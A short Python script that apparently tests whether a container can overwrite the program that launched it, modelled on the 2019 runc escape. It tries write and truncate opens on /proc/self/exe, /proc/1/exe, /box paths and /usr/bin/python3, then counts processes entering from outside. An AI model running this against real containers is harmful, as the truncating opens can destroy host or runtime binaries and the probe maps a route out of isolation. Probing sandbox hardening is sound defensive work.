# Overwrites the program that the container was started with, as the hole in runc of 2019 did: by /proc/self/exe and by its own path.
import os
import time

won = False
for path in ("/proc/self/exe", "/proc/1/exe", "/box/box", "/box/tty.so", "/usr/bin/python3"):
    for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        try:
            os.close(os.open(path, flags))
            won = True
        except OSError:
            pass
# Whoever enters the container from outside would pass by here: nobody does.
end = time.monotonic() + 1
seen = set()
while time.monotonic() < end:
    seen |= {pid for pid in os.listdir("/proc") if pid.isdigit()}
print("overwritten", won, "passers-by", len(seen - {"1", str(os.getpid()), str(os.getppid())}))
